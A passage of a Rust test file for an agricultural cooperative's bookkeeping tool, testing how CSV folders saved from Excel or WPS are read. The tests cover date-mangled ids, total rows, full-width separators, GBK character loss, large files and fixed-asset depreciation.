    let hint = "Excel takes an id such as 3-1 for a date and saves the date; format the column as Text in Excel and type the ids again";
    for party in ["3月1日", "2019年3月1日"] {
        assert_eq!(
            excel_cells("H01", "3", "2019/1/1", party, "2000"),
            [format!("{expected} \"{party}\": {hint}")],
            "{party}"
        );
    }
    // `1-Mar` is an id, but not one of members.csv.
    for party in ["1-Mar", "Mar-01"] {
        assert_eq!(
            excel_cells("H01", "3", "2019/1/1", party, "2000"),
            [format!("payments.csv, line 2, column 3 \"party\": no member \"{party}\" in members.csv: {hint}")],
            "{party}"
        );
    }
    assert_eq!(
        excel_cells("H01", "3", "2019/1/1", "3/1", "2000"),
        [format!("{expected} \"3/1\"")]
    );
}

/// Excel's accounting format (会计专用) shows zero as `-` and saves it so (` ¥-   `): the
/// problem says that the cell holds zero as that format shows it. (A lone `-` is not read
/// as zero: the cell is refused, as before.)
#[test]
fn a_zero_in_excels_accounting_format_is_refused_saying_so() {
    let files: Vec<(String, Vec<u8>)> = [
        ("policy.csv", "setting,value\ncooperative,示例\nyear,2019\nclose,no\n"),
        ("members.csv", "member,name,persons,village,joined\nH01,王建国,3,高格庄,2019/1/1\n"),
        ("payments.csv", "date,kind,party,amount,premium\n2019/1/2,股金,H01,2000,\" ¥-   \"\n2019/1/2,股金,H01,-,\n"),
    ]
    .into_iter()
    .map(|(name, text)| (name.to_string(), text.as_bytes().to_vec()))
    .collect();
    let hint = "Excel's accounting format (会计专用) shows 0 as -, and saves it so; write the number, or format the column as a number";
    assert_eq!(
        problems(&files),
        [
            format!("payments.csv, line 2, column 5 \"premium\": expected an amount in yuan of zero or more, with at most two decimals, such as 1,409.50 or ¥1409.50, found \"¥-\": {hint}"),
            format!("payments.csv, line 3, column 4 \"amount\": expected an amount in yuan above zero, with at most two decimals, such as 1,409.50 or ¥1409.50, found \"-\": {hint}"),
        ]
    );
}

/// A file typed in a text editor with a Chinese input method has full-width commas (`，`)
/// between its cells: its header row is one cell, and the problem with it says so, as it
/// does for tabs and semicolons, rather than that the cell is an unknown column.
#[test]
fn a_header_row_of_full_width_commas_is_refused_saying_so() {
    let files: Vec<(String, Vec<u8>)> = [
        (
            "policy.csv",
            "setting,value\ncooperative,示例\nyear,2019\nclose,no\n",
        ),
        (
            "members.csv",
            "成员编号，姓名，人口，村，入社日期\nH01，王建国，3，高格庄，2019/1/1\n",
        ),
    ]
    .into_iter()
    .map(|(name, text)| (name.to_string(), text.as_bytes().to_vec()))
    .collect();
    let found = problems(&files);
    assert!(
        found.contains(&"members.csv, line 1, column 1 \"成员编号，姓名，人口，村，入社日期\": the header row is one cell with full-width commas (，) in it; separate the cells with half-width commas (,)".to_string()),
        "{found:#?}"
    );
}

/// Excel on an English Windows takes a month and day (`03-01`, as `--init` writes the
/// days rent is paid by) for a date and saves it as `1-Mar`; typed again as `03-01` it is
/// taken again. The problem says so and gives a form Excel keeps as it is (`3月1日`), for
/// a date too (`2019年3月1日`).
#[test]
fn a_month_and_day_excel_saved_in_its_own_form_is_refused_saying_what_excel_keeps() {
    let header = "contract,member,parcel,area,start,end,yuan_per_mu,payment,pay_by,charge_to\n";
    let hint = "this is how Excel writes a day it took for a date (1-Mar for 3月1日), and it takes 03-01 or 2019-03-01 for one again; write a month and day as 3月1日 and a date as 2019年3月1日, which Excel keeps as they are";
    assert_eq!(
        problems(&contract_folder(&format!(
            "{header}LZ01,H01,P1,5,1-Jan,2029-1-15,1000,预付,1-Mar,521\n"
        ))),
        [
            format!("contracts.csv, line 2, column 5 \"start\": expected a date such as 2019-03-15 or 2019/3/15, found \"1-Jan\": {hint}"),
            format!("contracts.csv, line 2, column 9 \"pay_by\": expected a month and day such as 03-01 or 3/1, found \"1-Mar\": {hint}"),
        ]
    );
    // The forms the hint gives are read.
    let folder = ok(BookFolder::from_files(&contract_folder(&format!(
        "{header}LZ01,H01,P1,5,2019年1月1日,2029-1-15,1000,预付,3月1日,521\n"
    ))));
    assert_eq!(folder.events().len(), 6);
}

/// Accountants add a total row (`合计`, `小计`, `总计` in a cell, sums in the amount columns)
/// at the bottom of a sheet by habit. Before, it gave one problem per empty required cell and
/// one for the word where a date was expected, none saying what the row was; a row with only
/// a note did the same. Now each is one problem on its line, saying what it is, and neither
/// is read as a record.
#[test]
fn a_total_row_or_a_row_with_only_a_note_is_one_problem_on_its_line() {
    let header = "日期 date,类别 kind,金额 amount,列支对象 charged_to,付款方式 payment,备注 note\n";
    let rows = "2019/7/1,水电,100,GH01,bank,\n2019/7/2,水电,200,GH01,bank,\n";
    let total = "costs.csv, line 4: this row looks like a total row (\"合计\" in column 1 \"日期 date\"): a book folder takes no totals (a run adds up the rows itself); delete the row";
    assert_eq!(
        problems(&small_folder(&[(
            "costs.csv",
            &format!("{header}{rows}合计,,300,,,\n")
        )])),
        [total]
    );
    // Spaced out, with a colon, a unit, in another column, or in English.
    for (row, word, column) in [
        ("合 计：,,300,,,", "合 计：", "column 1 \"日期 date\""),
        (
            ",,300,总计(元),,",
            "总计(元)",
            "column 4 \"列支对象 charged_to\"",
        ),
        (",,300,,,本月小计", "本月小计", "column 6 \"备注 note\""),
        ("Total,,300,,,", "Total", "column 1 \"日期 date\""),
    ] {
        assert_eq!(
            problems(&small_folder(&[("costs.csv", &format!("{header}{rows}{row}\n"))])),
            [format!("costs.csv, line 4: this row looks like a total row (\"{word}\" in {column}): a book folder takes no totals (a run adds up the rows itself); delete the row")],
            "{row}"
        );
    }
    // A subtotal between rows, in members.csv (the sum of the persons), and in a cell
    // beyond the header row's columns.
    let members = "member,name,persons,village,joined\nH01,王建国,3,高格庄,2019/1/1\n,小计,3,,\nH02,李秀英,2,高格庄,2019/1/1\n,,5,,,合计\n";
    assert_eq!(
        problems(&[
            ("policy.csv".to_string(), b"setting,value\ncooperative,x\nyear,2019\nclose,no\n".to_vec()),
            ("members.csv".to_string(), members.as_bytes().to_vec()),
        ]),
        [
            "members.csv, line 3: this row looks like a total row (\"小计\" in column 2 \"name\"): a book folder takes no totals (a run adds up the rows itself); delete the row",
            "members.csv, line 5: this row looks like a total row (\"合计\" in column 6): a book folder takes no totals (a run adds up the rows itself); delete the row",
        ]
    );
    // A row with only a note.
    assert_eq!(
        problems(&small_folder(&[("costs.csv", &format!("{header}2019/7/1,水电,100,GH01,bank,\n,,,,,以下为下半年\n2019/7/2,水电,200,GH01,bank,\n"))])),
        ["costs.csv, line 3: this row has only a note (column 6 \"备注 note\"), and notes are not read: every row is a record; delete the row, or put the note on the row of the record it is about"]
    );
    // A record with a note that says 合计, or with a cell missing, is read as a record.
    let folder = ok(BookFolder::from_files(&small_folder(&[(
        "costs.csv",
        &format!("{header}{rows}2019/7/3,水电,300,GH01,bank,合计\n"),
    )])));
    assert_eq!(
        folder
            .events()
            .iter()
            .filter(|e| e.source.file == "costs.csv")
            .count(),
        3
    );
    assert_eq!(
        problems(&small_folder(&[("costs.csv", &format!("{header}2019/7/3,水电,300,,bank,\n"))])),
        ["costs.csv, line 2, column 4 \"列支对象 charged_to\": the cell is empty; expected a greenhouse id, several ids, 全部大棚 all_greenhouses or 管理 administration"]
    );
    // A total row with a date, the label where the kind of cost goes, is one too; a row
    // whose memo says 电费合计 is a record.
    assert_eq!(
        problems(&small_folder(&[("costs.csv", &format!("{header}{rows}2019/7/31,合计,300,,,\n"))])),
        ["costs.csv, line 4: this row looks like a total row (\"合计\" in column 2 \"类别 kind\"): a book folder takes no totals (a run adds up the rows itself); delete the row"]
    );
    let memo = "日期 date,类别 kind,金额 amount,列支对象 charged_to,付款方式 payment,摘要 memo\n2019/7/3,水电,300,,bank,电费合计\n";
    assert_eq!(
        problems(&small_folder(&[("costs.csv", memo)])),
        ["costs.csv, line 2, column 4 \"列支对象 charged_to\": the cell is empty; expected a greenhouse id, several ids, 全部大棚 all_greenhouses or 管理 administration"]
    );
    // So is a later row of a contract (its terms left empty) whose note says 累计.
    let header =
        "contract,member,parcel,area,start,end,yuan_per_mu,payment,pay_by,charge_to,note\n";
    let first = "LZ01,H01,P1,5,2019/1/1,2029-1-15,1000,预付,03-01,521,\n";
    let folder = ok(BookFolder::from_files(&contract_folder(&format!(
        "{header}{first}LZ01,,P2,5,,,,,,,累计\n"
    ))));
    let contract = folder.events().iter().find_map(|e| match &e.event {
        landpool::Event::ContractSigned { contract } => Some(contract.lines.len()),
        _ => None,
    });
    assert_eq!(contract, Some(2));
}

/// A total row with no label, only the sums under the amount columns (what Excel's AutoSum
/// leaves at a sheet's foot), was read as a record: one problem for each required cell it
/// leaves empty, none saying what the row is. It is one problem on its line now. A record
/// that lacks its id or date but has text in another cell is still read as a record.
#[test]
fn a_total_row_without_a_label_is_one_problem_on_its_line() {
    let header = "日期 date,类别 kind,金额 amount,列支对象 charged_to,付款方式 payment,备注 note\n";
    let rows = "2019/7/1,水电,100,GH01,bank,\n2019/7/2,水电,200,GH01,bank,\n";
    let total = |line: u32, sum: &str| {
        format!("costs.csv, line {line}: this row looks like a total row: it holds only numbers (\"{sum}\" in column 3 \"金额 amount\") and column 1 \"日期 date\" is empty; a book folder takes no totals (a run adds up the rows itself): delete the row, or fill in the record's empty cells")
    };
    for (written, sum) in [
        ("300", "300"),
        ("300.00", "300.00"),
        ("¥300.00", "¥300.00"),
        ("\"1,300.50\"", "1,300.50"),
        ("300元", "300元"),
    ] {
        assert_eq!(
            problems(&small_folder(&[(
                "costs.csv",
                &format!("{header}{rows},,{written},,,\n")
            )])),
            [total(4, sum)],
            "{written}"
        );
    }
    // Between rows, and in members.csv (the sum of the persons).
    let members = "member,name,persons,village,joined\nH01,王建国,3,高格庄,2019/1/1\nH02,李秀英,2,高格庄,2019/1/1\n,,5,,\n";
    assert_eq!(
        problems(&[
            ("policy.csv".to_string(), b"setting,value\ncooperative,x\nyear,2019\nclose,no\n".to_vec()),
            ("members.csv".to_string(), members.as_bytes().to_vec()),
        ]),
        ["members.csv, line 4: this row looks like a total row: it holds only numbers (\"5\" in column 3 \"persons\") and column 1 \"member\" is empty; a book folder takes no totals (a run adds up the rows itself): delete the row, or fill in the record's empty cells"]
    );
    // A harvest without its date whose greenhouse id is a number (`1`) is a record missing
    // its date, not a total (found by review).
    let harvests = "日期 date,大棚编号 greenhouse,重量(公斤) kg,等级 grade\n,1,120,\n";
    assert_eq!(
        problems(&small_folder(&[("harvests.csv", harvests)])),
        [
            "harvests.csv, line 2, column 1 \"日期 date\": the cell is empty; expected a date such as 2019-03-15 or 2019/3/15",
            "harvests.csv, line 2, column 2 \"大棚编号 greenhouse\": no greenhouse \"1\" in greenhouses.csv"
        ]
    );
    // A record without its date but with its kind is a record missing its date.
    assert_eq!(
        problems(&small_folder(&[(
            "costs.csv",
            &format!("{header}{rows},水电,300,GH01,bank,\n")
        )])),
        ["costs.csv, line 4, column 1 \"日期 date\": the cell is empty; expected a date such as 2019-03-15 or 2019/3/15"]
    );
}

/// A header row that is one cell with tabs, semicolons or full-width commas in it (a sheet
/// saved as tab-separated text, or typed with a Chinese input method) is one problem saying
/// so. Before, it came with one "missing column" problem per required column.
#[test]
fn a_header_row_of_one_cell_with_other_separators_is_one_problem() {
    for (sep, message) in [
        ("，", "the header row is one cell with full-width commas (，) in it; separate the cells with half-width commas (,)"),
        ("；", "the header row is one cell with full-width commas (，) in it; separate the cells with half-width commas (,)"),
        ("\t", "the header row is one cell with tabs or semicolons in it; save the sheet as CSV (comma-separated)"),
        (";", "the header row is one cell with tabs or semicolons in it; save the sheet as CSV (comma-separated)"),
    ] {
        let members = ["成员编号", "姓名", "人口", "村", "入社日期"].join(sep);
        let row = ["H01", "王建国", "3", "高格庄", "2019/1/1"].join(sep);
        let files = [
            ("policy.csv".to_string(), b"setting,value\ncooperative,x\nyear,2019\nclose,no\n".to_vec()),
            ("members.csv".to_string(), format!("{members}\n{row}\n").into_bytes()),
        ];
        assert_eq!(
            problems(&files),
            [format!("members.csv, line 1, column 1 {members:?}: {message}")],
            "{sep:?}"
        );
        // Empty cells after it, as a sheet whose other rows are wider saves it: the same
        // one problem (before, one per column it lacked).
        let files = [
            ("policy.csv".to_string(), b"setting,value\ncooperative,x\nyear,2019\nclose,no\n".to_vec()),
            ("members.csv".to_string(), format!("{members},,,\n{row},,,\n").into_bytes()),
        ];
        assert_eq!(
            problems(&files),
            [format!("members.csv, line 1, column 1 {members:?}: {message}")],
            "{sep:?} with empty cells after it"
        );
    }
}

/// Excel and WPS save a sheet as "CSV" in GBK on a Chinese Windows, and a character GBK
/// does not have (a rare character in a name: 䶮, 𠮷) becomes `?`, lost without a word.
/// Before, the name was read with its `?`; now a name cell of a GBK file holding `?` is a
/// problem saying that characters may have been lost and to save as "CSV UTF-8". A `?` in a
/// UTF-8 file is what was typed, and is read.
#[test]
fn a_name_of_a_gbk_file_with_a_question_mark_says_characters_may_have_been_lost() {
    let lost = "the file is GBK text (what Excel and WPS save as \"CSV\"), which has no place for some rare characters (such as 䶮 or 𠮷) and saves each as ?: characters may have been lost; save the sheet as \"CSV UTF-8\", which keeps every character, and check the cell";
    let members =
        "成员编号,姓名,人口,村,入社日期\nH01,王建国,3,高格庄,2019/1/1\nH02,刘?,2,高格庄,2019/1/1\n";
    let sales = "日期,大棚编号,重量,单价,买方,收款方式\n2019/7/1,GH01,10,5,?记果品,银行\n2019/7/2,GH01,10,5,谁买?,银行\n";
    let files = |gbk: bool| -> Vec<(String, Vec<u8>)> {
        let mut files = small_folder(&[("sales.csv", sales)]);
        for (name, bytes) in &mut files {
            if name == "members.csv" {
                *bytes = members.as_bytes().to_vec();
            }
            if gbk && name != "policy.csv" {
                let text = String::from_utf8(bytes.clone()).unwrap_or_default();
                let (encoded, _, unmappable) = encoding_rs::GBK.encode(&text);
                assert!(!unmappable);
                *bytes = encoded.into_owned();
            }
        }
        files
    };
    assert_eq!(
        problems(&files(true)),
        [
            format!("members.csv, line 3, column 2 \"姓名\": \"刘?\" has a ?: {lost}"),
            format!("sales.csv, line 2, column 5 \"买方\": \"?记果品\" has a ?: {lost}"),
            format!("sales.csv, line 3, column 5 \"买方\": \"谁买?\" has a ?: {lost}"),
        ]
    );
    // In UTF-8, the names are read as they are.
    let folder = ok(BookFolder::from_files(&files(false)));
    assert!(folder.events().iter().any(|e| matches!(
        &e.event,
        landpool::Event::MemberJoined { member } if member.name == "刘?"
    )));
}

/// The README.txt `--init` writes tells an accountant who keeps the folder in Excel or WPS
/// what to do so that the files read back: format the id columns as Text (Excel drops the
/// leading zeros of `001`, and takes long numbers and `3-1` for numbers and dates), save as
/// "CSV UTF-8" (GBK loses rare characters), and keep one header row and no totals. Before, it
/// said nothing of the id columns, and offered GBK as good as UTF-8.
#[test]
fn the_readme_says_to_format_id_columns_as_text_and_save_as_csv_utf8() {
    let dir = common::TempDir::new("readme");
    ok(reference().write(dir.path()));
    let readme = std::fs::read_to_string(dir.path().join("README.txt")).unwrap_or_default();
    for advice in [
        "- Format the id columns (成员编号 member,",
        "as Text (设置单元格格式 > 文本) before typing or pasting",
        "drops the leading zeros of an id such as 001,",
        "A CSV file keeps no\n  formats",
        "- Save as \"CSV UTF-8\"",
        "a rare character of a name (䶮, 𠮷) as ?",
        "no title row above it",
        "no total rows (合计)",
    ] {
        assert!(readme.contains(advice), "{advice:?} not in\n{readme}");
    }
    assert!(!readme.contains("save as CSV (UTF-8 or\nGBK)"), "{readme}");
}

/// A line of a GBK file whose bytes happen to be valid UTF-8 Chinese (a non-member named
/// 甯风安: GBK `E5 B8 B7 E7 B0 B2`, which UTF-8 reads as two other characters) was taken
/// for a UTF-8 line pasted into a GBK file, and the whole file refused as mixing the two.
/// A line that reads as GBK text of common characters (GB2312), and as UTF-8 only with
/// characters outside them, is GBK.
#[test]
fn a_gbk_line_whose_bytes_happen_to_be_utf8_is_read_as_gbk() {
    let labour = "日期,成员编号,非成员姓名,工作,计酬方式,数量,单价,用工类别\n2019/7/1,,甯风安,GH01,days,1,100,temporary\n2019/7/2,H01,,GH01,days,1,100,seasonal\n";
    let (gbk, _, unmappable) = encoding_rs::GBK.encode(labour);
    assert!(!unmappable);
    // The name's bytes are UTF-8 too.
    let name = encoding_rs::GBK.encode("甯风安").0;
    assert_eq!(std::str::from_utf8(&name).ok(), Some("帷簲"));
    let mut files = small_folder(&[]);
    files.push(("labour.csv".to_string(), gbk.into_owned()));
    let folder = ok(BookFolder::from_files(&files));
    let names: Vec<String> = folder
        .events()
        .iter()
        .filter_map(|e| match &e.event {
            landpool::Event::WorkRecorded { records, .. } => Some(records),
            _ => None,
        })
        .flatten()
        .map(|r| format!("{:?}", r.worker))
        .collect();
    assert_eq!(
        names,
        ["NonMember(\"甯风安\")", "Member(MemberId(\"H01\"))"]
    );
}

/// A column the file lacks that each of its rows needs (`人口 persons` for every household of
/// a `members.csv` without it) is one problem naming the rows, not one per row: twelve
/// households gave twelve, and a larger file filled the list and hid every other problem.
#[test]
fn a_missing_column_every_row_needs_is_one_problem_naming_the_rows() {
    let needs = "members.csv, line 2: a household needs column \"人口 persons\"";
    let mut members = String::from("成员编号,姓名,村,入社日期\n");
    for n in 1..=12 {
        members.push_str(&format!("H{n:02},成员{n},高格庄,2019/1/1\n"));
    }
    let found = problems(&members_folder(&members));
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].starts_with(needs), "{}", found[0]);
    assert!(
        found[0].ends_with("; so do the rows on lines 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 and 1 more"),
        "{}",
        found[0]
    );
    // Two rows: the second named; other problems of the file are still listed.
    let two = "成员编号,姓名,村,入社日期\nH01,甲,高格庄,2019/1/1\nH02,乙,高格庄,2019/13/1\nH03,丙,高格庄,2019/1/1\n";
    let found = problems(&members_folder(two));
    assert_eq!(found.len(), 2, "{found:?}");
    assert!(
        found[0].starts_with(needs) && found[0].ends_with("; so do the rows on lines 3 and 4"),
        "{}",
        found[0]
    );
    assert!(
        found[1].starts_with("members.csv, line 3, column 4"),
        "{}",
        found[1]
    );
    let one = "成员编号,姓名,村,入社日期\nH01,甲,高格庄,2019/1/1\nH02,乙,高格庄,2019/1/1\n";
    let found = problems(&members_folder(one));
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].ends_with("; so does the row on line 3"),
        "{}",
        found[0]
    );
}

/// Many templates mark a required column with `*` (`*成员编号`, or a full-width `＊`): the
/// header names the column all the same. Before, each such header was an unknown column and
/// each column it stood for missing.
#[test]
fn a_header_marking_required_columns_with_a_star_names_them() {
    let rows = "H01,王建国,3,高格庄,2019/1/1\nH02,李秀英,2,高格庄,2019/1/1\n";
    let plain = BookFolder::from_files(&members_folder(&format!(
        "成员编号,姓名,人口,村,入社日期\n{rows}"
    )))
    .unwrap_or_else(|e| panic!("{e}"));
    for header in [
        "*成员编号,*姓名,人口,*村,*入社日期",
        "＊成员编号,＊姓名,人口,＊村,＊入社日期",
        "成员编号*,姓名*,人口,村*,入社日期 *",
        "*member,*name,persons,*village,*joined",
    ] {
        let starred = BookFolder::from_files(&members_folder(&format!("{header}\n{rows}")))
            .unwrap_or_else(|e| panic!("{header}: {e}"));
        assert_eq!(starred.events(), plain.events(), "{header}");
    }
}

/// A labour file large enough to be split into rows on a second thread (a mebibyte or more)
/// and read in two halves at once (20,000 rows or more): `rows` rows of member H01 in
/// GH01, the day worked going round three dates, each its own timesheet, and the quantity
/// the row's number; `edit` may change the text of a row by its number (from 0).
fn large_labour(rows: usize, edit: impl Fn(usize, String) -> String) -> String {
    let mut text = String::from("date,member,non_member,task,basis,quantity,rate,kind,note\n");
    for row in 0..rows {
        let day = 10 + row % 3;
        let line =
            format!("2019-06-{day},H01,,GH01,按天,{row},1.00,季节工,一行备注文字以便文件够大\n");
        text.push_str(&edit(row, line));
    }
    text
}

#[test]
fn a_large_labour_file_is_read_in_order_into_its_timesheets() {
    let rows = 30_000;
    let labour = large_labour(rows, |_, line| line);
    assert!(labour.len() >= 1 << 20, "{} bytes", labour.len());
    let folder = ok(BookFolder::from_files(&small_folder(&[(
        "labour.csv",
        &labour,
    )])));
    let sheets: Vec<(&str, u64, Vec<String>)> = folder
        .events()
        .iter()
        .filter_map(|e| match &e.event {
            landpool::Event::WorkRecorded { date, records } => Some((
                e.source.file.as_str(),
                e.source.line,
                std::iter::once(date.to_string())
                    .chain(records.iter().map(|r| match &r.pay {
                        landpool::Pay::Days { days, .. } => days.to_string(),
                        other => format!("{other:?}"),
                    }))
                    .collect(),
            )),
            _ => None,
        })
        .collect();
    // One timesheet a day, on the line of its first row, its records in the file's order.
    let expected: Vec<(&str, u64, Vec<String>)> = (0..3)
        .map(|first| {
            let days = (first..rows).step_by(3).map(|row| row.to_string());
            (
                "labour.csv",
                u64::try_from(first).unwrap_or(u64::MAX) + 2,
                std::iter::once(format!("2019-06-{}", 10 + first))
                    .chain(days)
                    .collect(),
            )
        })
        .collect();
    assert!(
        sheets == expected,
        "{:?}",
        sheets
            .iter()
            .map(|s| (s.0, s.1, s.2.len()))
            .collect::<Vec<_>>()
    );
}

#[test]
fn the_problems_of_a_large_labour_file_are_listed_as_a_small_ones_are() {
    // Problems on both sides of the halfway row, one found as the file is split into rows
    // (a cell without a header), and one in the members file read before it.
    let labour = large_labour(30_000, |row, line| match row {
        3 => line.replace(",H01,", ",H99,"),
        14_999 => line.replace(",按天,", ",按年,"),
        15_000 => line.replace("季节工,", "季节工,,x,"),
        29_998 => line.replace("2019-06-", "2018-06-"),
        _ => line,
    });
    let mut files = small_folder(&[("labour.csv", &labour)]);
    files[1].1 = "member,name,persons,village,joined\nH01,王建国,三,高格庄,2019/1/1\n"
        .as_bytes()
        .to_vec();
    let err = BookFolder::from_files(&files).unwrap_err();
    assert!(matches!(err, Error::Folder(_)), "{err:?}");
    assert_eq!(
        err.to_string(),
        "5 problems in the book folder:
members.csv, line 2, column 3 \"persons\": expected a whole number of 1 or more, such as 3, found \"三\"
labour.csv, line 5, column 2 \"member\": no member \"H99\" in members.csv
labour.csv, line 15001, column 5 \"basis\": expected one of 按天 days, 按小时 hours, 计件 pieces, found \"按年\"
labour.csv, line 15002: 2 cells in columns without a header (the first is column 10); every filled cell needs a column name in the header row
labour.csv, line 30000, column 1 \"date\": expected a date in 2019, the year of policy.csv, found \"2018-06-11\""
    );
}

/// [`leaving_folder`] with `资产.csv`: vines in GH01 (a productive biological asset,
/// straight-line, the method's cell empty for the default) taken out of use on the day the
/// greenhouse is, and a tractor depreciated by the hours of `asset_work` rows of
/// `adjustments.csv`.
fn asset_folder(edit: impl Fn(&str, String) -> String) -> Vec<(String, Vec<u8>)> {
    let mut files = leaving_folder(|name, text| {
        edit(
            name,
            if name == "adjustments.csv" {
                "date,kind,from,to,refs,units\n\
             2019/4/30,asset_work,,,T01,120.5\n\
             2019/6/15,工作量,,,T01,200\n\
             2019/6/30,rent_accrual,2019/1/1,2019/6/30,LZ02,\n\
             2019/6/30,depreciation,,,,\n\
             2019/12/31,rent_accrual,2019/1/1,2019/12/31,,\n\
             2019/12/31,depreciation,,,,\n"
                    .to_string()
            } else {
                text
            },
        )
    });
    let assets = "资产编号 asset,名称 name,类别 kind,投入使用日期 in_use,原值 cost,残值 residual,折旧方法 method,折旧月数 life_months,预计总工作量 total_units,大棚编号 greenhouse,付款方式 paid_from,处置日期 retired,处置收入 proceeds,收款账户 proceeds_account\n\
                  V01,一号棚葡萄树,生产性生物资产,2019/1/31,\"24,000\",0,,120,,GH01,bank,2019/7/10,,\n\
                  T01,拖拉机,fixed,2019/3/5,\"80,000\",8000,工作量法,,10000,,payable,,,\n";
    files.push((
        "资产.csv".into(),
        edit("资产.csv", assets.into()).into_bytes(),
    ));
    files
}

/// An asset's row of `资产.csv` puts it into use, its `处置日期 retired` cell takes it out
/// of use, and `工作量 asset_work` rows of `adjustments.csv` give a month's units of work,
/// before that month's depreciation however they are placed in the file. The vines: 200.00
/// a month from February, five months booked by June's row, July's by the retirement, and
/// 22,800.00 lost straight to 529 (no 154 for a biological asset), before the greenhouse
/// they serve goes out of use that day. The tractor: 72,000.00 over 10,000 hours, 320.5
/// hours by June, 2,307.60 to 523. The folder is written back as it was read.
#[test]
fn assets_are_read_from_assets_csv_and_round_trip() {
    use landpool::ledger::{AccountCode, Side};
    use landpool::Event;
    use time::macros::date;
    let folder = ok(BookFolder::from_files(&asset_folder(|_, text| text)));
    let book = ok(folder.run());
    let entries = |day: time::Date| -> Vec<String> {
        book.journal()
            .entries()
            .iter()
            .filter(|e| e.date == day)
            .map(|e| {
                let postings: Vec<String> = e
                    .postings()
                    .iter()
                    .map(|p| {
                        let side = match p.side {
                            Side::Debit => "Dr",
                            Side::Credit => "Cr",
                        };
                        format!("{side} {} {}", p.account, p.amount)
                    })
                    .collect();
                postings.join(", ")
            })
            .collect()
    };
    let june: Vec<String> = entries(date!(2019 - 06 - 30))
        .into_iter()
        .filter(|e| e.contains("Cr 143") || e.contains("Dr 523"))
        .collect();
    assert_eq!(
        june,
        [
            "Dr 523 2307.60, Cr 152 2307.60",
            "Dr 521.GH01 1000.00, Cr 143 1000.00",
        ]
    );
    assert_eq!(
        entries(date!(2019 - 07 - 10)),
        [
            "Dr 521.GH01 200.00, Cr 143 200.00",
            "Dr 143 1200.00, Dr 529 22800.00, Cr 142 24000.00",
            "Dr 521.GH01 950.00, Cr 152 950.00",
            "Dr 152 5700.00, Dr 154 114300.00, Cr 151 120000.00",
            "Dr 102 80000.00, Cr 154 80000.00",
            "Dr 529 34300.00, Cr 154 34300.00",
        ]
    );
    let balance = |code: &str| {
        ok(book
            .journal()
            .closing_balance(&ok(AccountCode::new(code)))
            .map(|b| b.to_string()))
    };
    // December's row books nothing more for the tractor: no hours since June.
    assert_eq!(
        [
            balance("142"),
            balance("143"),
            balance("523"),
            balance("151")
        ],
        ["0.00", "0.00", "2307.60", "80000.00"]
    );
    let tractor = book
        .asset(&ok("T01".parse()))
        .unwrap_or_else(|| panic!("T01"));
    assert_eq!(tractor.depreciated_months, 9);
    assert_eq!(tractor.work.len(), 2);
    assert_eq!(landpool::audit::check(&book), Vec::new());

    let files = ok(folder.to_files());
    let text = |name: &str| {
        files
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, t)| t.trim_start_matches('\u{feff}').to_string())
            .unwrap_or_else(|| panic!("{name}"))
    };
    assert_eq!(
        text("assets.csv").lines().collect::<Vec<_>>(),
        [
            "资产编号 asset,名称 name,类别 kind,投入使用日期 in_use,原值 cost,残值 residual,折旧方法 method,折旧月数 life_months,预计总工作量 total_units,大棚编号 greenhouse,付款方式 paid_from,处置日期 retired,处置收入 proceeds,收款账户 proceeds_account,备注 note",
            "V01,一号棚葡萄树,生产性生物资产,2019-01-31,24000.00,0.00,年限平均法,120,,GH01,银行,2019-07-10,,,",
            "T01,拖拉机,固定资产,2019-03-05,80000.00,8000.00,工作量法,,10000,,应付,,,,",
        ]
    );
    let work: Vec<String> = text("adjustments.csv")
        .lines()
        .filter(|l| l.contains("工作量,"))
        .map(str::to_string)
        .collect();
    assert_eq!(
        work,
        [
            "2019-04-30,工作量,,,T01,120.5,",
            "2019-06-30,工作量,,,T01,200,"
        ]
    );
    let bytes: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
        .collect();
    let read = ok(BookFolder::from_files(&bytes));
    let events = |folder: &BookFolder| -> Vec<Event> {
        folder.events().iter().map(|e| e.event.clone()).collect()
    };
    assert_eq!(events(&read), events(&folder));
    assert_eq!(ok(read.run()).digest(), book.digest());
}

/// Found by the `book_folder` fuzz target: a folder without `assets.csv` whose
/// `adjustments.csv` gives an asset's units of work read, since a file the folder did not
/// have was not looked in; written back (with every file, `assets.csv` empty), it did not
/// read. A reference to a file the folder does not have is a problem, naming the file.
#[test]
fn a_reference_to_a_file_the_folder_does_not_have_is_a_problem() {
    let mut files = asset_folder(|_, text| text);
    files.retain(|(name, _)| name != "资产.csv");
    assert_eq!(
        problems(&files),
        [
            "adjustments.csv, line 2, column 5 \"refs\": no asset \"T01\": the folder has no assets.csv (资产.csv); add it, with a row for the asset",
            "adjustments.csv, line 3, column 5 \"refs\": no asset \"T01\": the folder has no assets.csv (资产.csv); add it, with a row for the asset",
        ]
    );
    // Every kind of reference likewise: without its greenhouses file, the vines' row naming
    // the greenhouse they serve is a problem. A folder without its members file has that
    // one problem, not one for each row naming a member.
    let mut without_greenhouses = asset_folder(|_, text| text);
    without_greenhouses.retain(|(name, _)| name != "大棚.csv");
    let found = problems(&without_greenhouses);
    assert!(
        found.contains(&"资产.csv, line 2, column 10 \"大棚编号 greenhouse\": no greenhouse \"GH01\": the folder has no greenhouses.csv (大棚.csv); add it, with a row for the greenhouse".to_string()),
        "{found:?}"
    );
    let mut without_members = asset_folder(|_, text| text);
    without_members.retain(|(name, _)| name != "成员.csv");
    assert_eq!(
        problems(&without_members),
        ["members.csv: the file is missing; every book folder has members.csv (成员.csv), the member register (成员名册), one member a row, with the last day of a member who leaves in the year"]
    );
    // Without the units of work, the folder reads, and what it writes reads back.
    let files: Vec<(String, Vec<u8>)> = files
        .into_iter()
        .map(|(name, bytes)| {
            if name == "adjustments.csv" {
                let text = String::from_utf8_lossy(&bytes)
                    .lines()
                    .filter(|line| !line.contains("T01"))
                    .map(|line| format!("{line}\n"))
                    .collect::<String>();
                (name, text.into_bytes())
            } else {
                (name, bytes)
            }
        })
        .collect();
    let folder = ok(BookFolder::from_files(&files));
    let written: Vec<(String, Vec<u8>)> = ok(folder.to_files())
        .into_iter()
        .map(|(name, text)| (name, text.into_bytes()))
        .collect();
    let again = ok(BookFolder::from_files(&written));
    assert_eq!(again.settings(), folder.settings());
    assert_eq!(again.events().len(), folder.events().len());
}

/// Each bad cell of `资产.csv` and of an `asset_work` row is a problem naming its file,
/// line and column.
#[test]
